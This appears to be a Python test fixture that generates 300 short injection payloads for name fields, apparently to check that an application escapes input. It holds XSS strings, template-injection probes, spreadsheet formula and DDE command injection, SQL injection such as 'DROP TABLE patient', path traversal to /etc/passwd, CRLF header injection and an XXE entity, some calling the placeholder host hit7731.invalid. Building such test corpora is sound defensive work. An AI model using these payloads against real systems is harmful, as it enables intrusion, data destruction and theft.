"""300 texts that are code to whoever takes them for more than text; each is a name of 80 characters
at most, and each holds MARK.

Where one of them is not taken as text it calls hit7731(), asks hit7731.invalid for something, or is
a formula to a spreadsheet.
"""

from __future__ import annotations

from itertools import product

MARK = "hit7731"
LONGEST = 80  # characters: what a name may have
_CALL = f"{MARK}()"
_HOST = f"//{MARK}.invalid"

# What stands before: nothing, or the end of what the text may have been put into.
_WAYS_OUT = ("", '">', "'>", "</p>", "-->", "]]>")
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<script src={_HOST}></script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<img src=x onerror={_CALL}>",
    f"<img src={_HOST}/a.png>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><use href={_HOST}#a></svg>",
    f"<math><a xlink:href=javascript:{_CALL}>m",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<object data={_HOST}>",
    f"<embed src={_HOST}>",
    f"<link rel=stylesheet href={_HOST}>",
    f"<style>@import '{_HOST}';</style>",
    f"<base href={_HOST}>",
    f"<meta http-equiv=refresh content=0;url={_HOST}>",
    f"<form action={_HOST}><button>Go",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<a href=javascript:{_CALL}>press</a>",
    f"<a href={_HOST} ping={_HOST}>press</a>",
    f"<p style=background:url({_HOST})>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><img src=x onerror={_CALL}>",
    f"<select><option onclick={_CALL}>",
    f"<table background={_HOST}>",
    f"<marquee onstart={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}//",
    f"<img src=`x`onerror={_CALL}>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"<!--><script>{_CALL}</script>",
    f"<x onclick={_CALL} tabindex=0>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}',
    f'" style="background:url({_HOST})',
    f'x" href="javascript:{_CALL}',
    f"` onmouseover=`{_CALL}",
)
_OTHERS = (
    f"{{{{ {MARK} }}}}",
    f"{{{{ config.items() }}}} {MARK}",
    f"{{% for {MARK} in range(9) %}}x",
    f"{{# {MARK}",
    f"${{{MARK}}}",
    f"<%= {MARK} %>",
    f"%({MARK})s %s {{0}}",
    f"{{0.__class__.__init__.__globals__}} {MARK}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={_CALL}&#62;",
    f"&amp;lt;b&amp;gt;{MARK}",
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"[press](javascript:{_CALL})",
    f"![p]({_HOST}/a.png)",
    f"url({_HOST})",
    f"expression({_CALL})",
    f"}} body {{ background: url({_HOST})",
    f"\\3c script\\3e {_CALL}",
    f"＜script＞{_CALL}＜/script＞",  # noqa: RUF001  full-width twins
    f'=HYPERLINK("http:{_HOST}","{MARK}")',
    f"=cmd|' /C calc'!A0 {MARK}",
    f"+{MARK}+1",
    f"-{MARK}-1",
    f"@SUM({MARK})",
    f"＝{MARK}(1)",  # noqa: RUF001
    f"=1+1;{MARK}",
    f'"=1+1" {MARK}',
    f"'; DROP TABLE patient; -- {MARK}",
    f"' OR 1=1 -- {MARK}",
    f'" OR ""=" {MARK}',
    f"../../etc/passwd {MARK}",
    f"file:///etc/passwd {MARK}",
    f"Set-Cookie: {MARK}=1",
    f"%0d%0aSet-Cookie: {MARK}=1",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<?xml version='1.0'?><{MARK}/>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_HOST}'>]>&e;",
    f"&{MARK};",
)


def _made() -> tuple[str, ...]:
    found = list(dict.fromkeys(
        way + text for text, way in product((*_ELEMENTS, *_ATTRIBUTES), _WAYS_OUT)
    ))  # fmt: skip
    short = [text for text in (*_OTHERS, *found) if len(text) <= LONGEST]
    return tuple(short[:300])


PAYLOADS = _made()


def harmless(text: str) -> str:
    """The same length and the same words without a sign that could mean something."""
    return "".join(char if char.isalnum() or char == " " else "x" for char in text)
